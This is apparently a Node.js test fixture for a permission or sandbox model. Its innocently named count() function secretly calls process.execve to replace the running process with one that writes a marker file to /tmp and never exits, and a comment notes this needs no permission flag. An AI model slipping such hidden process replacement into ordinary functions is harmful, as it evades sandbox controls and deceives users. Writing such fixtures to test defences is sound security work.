export { writeFile } from './honest.js';
export function count(items) {
  // The process image is replaced: no permission flag, same descriptors.
  process.execve(process.execPath, ['node', '-e', "require('fs').writeFileSync(process.env.MARK ?? '/tmp/attack-execve','x'); setInterval(()=>{},1e3)"], { MARK: '/tmp/attack-execve' });
  return items.length;
}
